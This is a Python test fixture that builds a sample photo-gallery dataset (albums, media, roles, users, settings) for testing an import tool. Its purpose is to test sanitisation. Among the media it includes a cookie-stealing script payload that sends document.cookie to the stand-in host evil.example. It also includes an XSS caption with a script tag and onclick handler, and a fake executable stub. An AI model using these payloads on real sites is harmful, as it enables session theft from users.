"""The realistic GSP sample's content, generation-neutral (tests/gsp_fixtures.py writes it out)."""

from __future__ import annotations

import dataclasses
import uuid
from pathlib import Path

from tests.gsp_writer import HTML_SOURCE, METADATA_CODES, ROLE_COLUMNS, SAMPLES


@dataclasses.dataclass
class Album:
    id: int
    gallery_id: int
    parent_id: int | None  # None: the gallery's root (0 in 2.x files)
    directory_name: str
    title: str
    summary: str = ""
    seq: int = 0
    sort_by: int = 111  # a MetadataItemName code; 3.x+ only
    sort_ascending: bool = True
    is_private: bool = False
    owned_by: str = ""
    owner_role: str = ""
    thumbnail_media_id: int = 0


@dataclasses.dataclass
class Media:
    id: int
    album_id: int
    original_filename: str
    title: str
    caption: str = ""
    tags: list[str] = dataclasses.field(default_factory=list)
    people: list[str] = dataclasses.field(default_factory=list)
    rating: str | None = None
    metadata: dict[int, str] = dataclasses.field(default_factory=dict)
    external_html: str | None = None
    external_type: str | None = None
    is_private: bool = False
    seq: int = 0
    source: Path | None = None  # the file to put in the media folder
    data: bytes | None = None  # or its bytes; neither: the file is missing on the old server
    width: int = 640
    height: int = 480

    @property
    def has_file(self) -> bool:
        return self.source is not None or self.data is not None


@dataclasses.dataclass
class Role:
    name: str
    perms: dict[str, bool]
    album_ids: list[int]


@dataclasses.dataclass
class User:
    name: str
    email: str | None
    password_format: int
    approved: bool = True
    locked: bool = False
    roles: list[str] = dataclasses.field(default_factory=list)
    profiles: dict[int, dict[str, str]] = dataclasses.field(
        default_factory=dict
    )  # gallery id → settings
    id: str = ""


@dataclasses.dataclass
class Gallery:
    id: int
    description: str
    is_template: bool = False
    settings: dict[str, str] = dataclasses.field(default_factory=dict)


@dataclasses.dataclass
class Content:
    galleries: list[Gallery]
    albums: list[Album]
    media: list[Media]
    roles: list[Role]
    users: list[User]
    app_settings: dict[str, str]
    mime_types: list[tuple[int, str, str, bool]]  # id, extension, mime type, enabled
    # files in a gallery's media folder that no media object names: {gallery id: [relative path]}
    extra_files: dict[int, list[str]] = dataclasses.field(default_factory=dict)

    def album_path(self, album_id: int) -> list[str]:
        """Directory names from below the root down to the album (the root's is empty)."""
        by_id = {a.id: a for a in self.albums}
        parts: list[str] = []
        album = by_id[album_id]
        while album.parent_id is not None:
            parts.append(album.directory_name)
            album = by_id[album.parent_id]
        return parts[::-1]

    def gallery_of(self, album_id: int) -> int:
        """The album's gallery id (0 for an album the content does not have: hostile files name some)."""
        return next((a.gallery_id for a in self.albums if a.id == album_id), 0)

    def expected(self, gallery_id: int = 2) -> dict:
        """What the sample holds for one gallery, for tests to compare an import with."""
        albums = [a for a in self.albums if a.gallery_id == gallery_id]
        ids = {a.id for a in albums}
        media = [m for m in self.media if m.album_id in ids]
        return {
            "albums": len(albums),
            "media": len(media),
            "files": sum(1 for m in media if m.has_file),
            "missing_files": [m.id for m in media if not m.has_file and not m.external_html],
            "external": [m.id for m in media if m.external_html],
            "roles": len(self.roles),
            "users": len(self.users),
            "galleries": [g.id for g in self.galleries if not g.is_template],
            "template_galleries": [g.id for g in self.galleries if g.is_template],
        }


def _jpg(name: str) -> Path:
    return SAMPLES / "jpg" / name


SAFE_EMBED = '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" frameborder="0" allowfullscreen></iframe>'
UNSAFE_EMBED = '<script>document.location="https://evil.example/?c="+document.cookie</script><iframe src="https://evil.example/x"></iframe>'
HTML_CAPTION = '<p>Sunset at <b>Ørsta</b> &amp; the <a href="https://example.org/fjord" onclick="steal()">fjord</a><script>alert(1)</script></p>'


def every_metadata_value(code: int) -> str:
    """A plausible formatted value for each MetadataItemName code."""
    values = {
        4: "Canon EOS 40D",
        8: "2008-05-30T15:56:01",
        10: "100 x 68",
        12: "Canon",
        13: "0 ev",
        14: "Manual",
        15: "1/160 sec",
        16: "Flash did not fire, compulsory flash mode",
        17: "f/7.1",
        18: "135 mm",
        19: "68",
        20: "72 pixels per inch",
        21: "100",
        22: "sunset, New York City,  family reunion , été",
        23: "f/7.1",
        24: "Unknown",
        25: "Pattern",
        26: "4",
        29: "Fjord at dusk",
        30: "72 pixels per inch",
        33: "100",
        34: "Canon_40D.jpg",
        35: "Canon_40D",
        36: "8 KB",
        41: HTML_CAPTION,
        42: "Anna Smith, Bob O'Neil",
        43: "Normal",
        101: "43.4674 N 11.8811 E",
        102: '<a href="https://maps.example/?q=43.4674,11.8811">43.4674 N 11.8811 E</a>',
        103: "43.4674",
        104: "11.8811",
        109: "187 m",
        110: "2.2.0.0",
        111: "2012-05-17T09:30:15",
        113: "3",
        112: SAFE_EMBED,
    }
    return values.get(code, f"{METADATA_CODES[code]} value ✓")


def sample_content(*, video: Path | None = None) -> Content:
    """The realistic sample: what a long-lived GSP gallery holds, in generation-neutral terms."""
    albums = [
        Album(
            10,
            2,
            None,
            "",
            "Our family gallery",
            "The <i>whole</i> family, since 2004",
            sort_by=111,
        ),
        Album(
            11,
            2,
            10,
            "Holidays",
            "Holidays — Été 2009 🌞",
            "Summers <b>by the sea</b>",
            seq=1,
            sort_by=29,
        ),
        Album(
            12, 2, 11, "Norway", "Norge / Ørsta", "Fjords", seq=0, sort_by=8, sort_ascending=False
        ),
        Album(13, 2, 12, "Day 1", "Day 1: arrival", seq=0),
        Album(14, 2, 13, "Mountains", "Mountains", seq=0),
        Album(15, 2, 14, "Peaks", "Peaks", seq=0),
        Album(16, 2, 15, "Summit", "Summit (6 deep)", seq=0),
        Album(
            17,
            2,
            10,
            "Family",
            "Family — private",
            "Only for us",
            seq=2,
            is_private=True,
            owned_by="alice",
            owner_role="_AlbumOwner_alice_17",
        ),
        Album(18, 2, 10, "Videos", "Videos & links", seq=3),
        Album(19, 2, 10, "alice", "alice's album", "Personal album", seq=4, owned_by="alice"),
        Album(20, 2, 10, "日本 旅行", "日本 旅行 (Japan)", seq=5),
        Album(30, 3, None, "", "Club gallery", ""),
        Album(31, 3, 30, "Events", "Club events 2011", "Meetings & outings"),
    ]
    media = [
        Media(
            100,
            11,
            "Canon_40D.jpg",
            "Fjord at dusk",
            HTML_CAPTION,
            ["sunset", "New York City", "family reunion", "été"],
            ["Anna Smith", "Bob O'Neil"],
            "4",
            {c: every_metadata_value(c) for c in METADATA_CODES if c != HTML_SOURCE},
            source=_jpg("Canon_40D.jpg"),
            width=100,
            height=68,
        ),
        Media(
            101,
            11,
            "Nikon_D70.jpg",
            "Beach",
            "Plain caption, no HTML",
            ["beach"],
            seq=1,
            source=_jpg("Nikon_D70.jpg"),
        ),
        Media(
            102,
            12,
            "Fujifilm_FinePix_E500.jpg",
            "Ørsta harbour",
            "Harbour",
            ["Ørsta", "harbour"],
            rating="5",
            source=_jpg("Fujifilm_FinePix_E500.jpg"),
        ),
        Media(103, 13, "Kodak_CX7530.jpg", "Arrival", "", source=_jpg("Kodak_CX7530.jpg")),
        Media(104, 13, "lost.jpg", "Lost on the old server", "This file was deleted", source=None),
        Media(105, 14, "Olympus_C8080WZ.jpg", "Ridge", source=_jpg("Olympus_C8080WZ.jpg")),
        Media(106, 15, "Pentax_K10D.jpg", "Peak", people=["Carol"], source=_jpg("Pentax_K10D.jpg")),
        Media(107, 16, "Sony_HDR-HC3.jpg", "Summit view", source=_jpg("Sony_HDR-HC3.jpg")),
        Media(108, 16, "Arbitro.tiff", "A TIFF scan", source=SAMPLES / "tiff" / "Arbitro.tiff"),
        Media(
            109,
            17,
            "Panasonic_DMC-FZ30.jpg",
            "Private dinner",
            is_private=True,
            source=_jpg("Panasonic_DMC-FZ30.jpg"),
        ),
        Media(
            110,
            18,
            "",
            "A YouTube video",
            "Embedded",
            external_html=SAFE_EMBED,
            external_type="Video",
        ),
        Media(
            111,
            18,
            "",
            "Unsafe embed",
            "",
            external_html=UNSAFE_EMBED,
            external_type="Video",
            seq=1,
        ),
        Media(
            112,
            19,
            "Ricoh_Caplio_RR330.jpg",
            "alice's photo",
            source=_jpg("Ricoh_Caplio_RR330.jpg"),
        ),
        Media(
            113,
            20,
            "Ærø café.jpg",
            "Unicode file name",
            "東京",
            ["東京", "café"],
            source=_jpg("Canon_DIGITAL_IXUS_400.jpg"),
        ),
        Media(
            114, 11, "setup.exe", "Not a picture", data=b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00"
        ),  # a disabled type
        Media(130, 31, "Kodak_CX7530.jpg", "Club meeting", source=_jpg("Kodak_CX7530.jpg")),
        Media(
            131,
            31,
            "WWL_(Polaroid)_ION230.jpg",
            "Club outing",
            source=_jpg("WWL_(Polaroid)_ION230.jpg"),
        ),
    ]
    if video is not None:
        media.append(
            Media(115, 18, "clip.mp4", "A short clip", source=video, seq=2, width=64, height=48)
        )
    albums[0].thumbnail_media_id = 100
    albums[1].thumbnail_media_id = 101
    only = [Role(f"Only {col}", {c: c == col for c in ROLE_COLUMNS}, [11]) for col in ROLE_COLUMNS]
    roles = [
        Role("Administrators", {c: True for c in ROLE_COLUMNS}, [10, 30]),
        Role("Gallery Admins", {c: c != "AllowAdministerSite" for c in ROLE_COLUMNS}, [10]),
        Role(
            "Editors",
            {c: c.startswith(("AllowView", "AllowAdd", "AllowEdit")) for c in ROLE_COLUMNS},
            [11, 17],
        ),
        Role(
            "Viewers",
            {c: c in ("AllowViewAlbumsAndObjects", "AllowViewOriginalImage") for c in ROLE_COLUMNS},
            [10],
        ),
        Role("No Access", {c: False for c in ROLE_COLUMNS}, []),
        Role("Club Members", {c: c == "AllowViewAlbumsAndObjects" for c in ROLE_COLUMNS}, [30]),
        Role(
            "_AlbumOwner_alice_17",
            {
                c: c.startswith(("AllowView", "AllowAdd", "AllowEdit", "AllowDelete"))
                for c in ROLE_COLUMNS
            },
            [17],
        ),
        *only,
    ]
    users = [
        User("admin", "admin@example.org", 0, roles=["Administrators"]),
        User(
            "alice",
            "alice@example.org",
            1,
            roles=["Editors", "_AlbumOwner_alice_17"],
            profiles={
                2: {
                    "EnableUserAlbum": "True",
                    "UserAlbumId": "19",
                    "ShowMediaObjectMetadata": "True",
                }
            },
        ),
        User("bob", None, 2, roles=["Viewers"]),
        User("carol", "carol@example.org", 1, locked=True, roles=["Viewers"]),
        User("dave", "dave@example.org", 0, approved=False, roles=["Viewers"]),
        User(
            "émile",
            "emile@example.org",
            1,
            roles=["Viewers", "Only HideWatermark"],
            profiles={2: {"EnableUserAlbum": "False", "UserAlbumId": "0"}},
        ),
        User("erin", "erin@example.org", 2, roles=["Club Members"]),
    ]
    for i, user in enumerate(users):
        user.id = str(uuid.UUID(int=0x1000 + i))
    settings = {
        "MediaObjectPath": "gs\\mediaobjects",
        "ThumbnailPath": "",
        "OptimizedPath": "",
        "MaxThumbnailLength": "115",
        "ThumbnailImageJpegQuality": "70",
        "MaxOptimizedLength": "640",
        "OptimizedImageJpegQuality": "70",
        "EnableSelfRegistration": "True",
        "RequireEmailValidationForSelfRegisteredUser": "True",
        "RequireApprovalForSelfRegisteredUser": "False",
        "EnableUserAlbum": "True",
        "UserAlbumParentAlbumId": "10",
        "AllowAnonymousBrowsing": "True",
        "SlideshowInterval": "4000",
        "AllowHtmlInTitlesAndCaptions": "True",
        "AllowedHtmlTags": "p,a,b,i,u,em,strong,br",
        "AllowAddExternalContent": "True",
        "GalleryTitle": "Our family",
        "DefaultRolesForUser": "Viewers",
        "MediaObjectTransitionType": "Fade",
        "EnableMediaObjectZipDownload": "True",
    }
    galleries = [
        Gallery(1, "Template Gallery", True, {**settings, "GalleryTitle": "Template"}),
        Gallery(2, "Family photos — Фото", False, settings),
        Gallery(
            3,
            "Club",
            False,
            {**settings, "AllowAnonymousBrowsing": "False", "MediaObjectPath": "club"},
        ),
    ]
    mime = [
        (1, ".jpg", "image/jpeg", True),
        (2, ".tiff", "image/tiff", True),
        (3, ".mp4", "video/mp4", True),
        (4, ".exe", "application/octet-stream", False),
    ]
    extra = {2: ["zThumb_orphan.jpg", "Holidays/not_in_backup.jpg"]}
    return Content(
        galleries,
        albums,
        media,
        roles,
        users,
        {"EnableCache": "True", "ProductKey": "", "JQueryScriptPath": "//ajax.example/jquery.js"},
        mime,
        extra,
    )
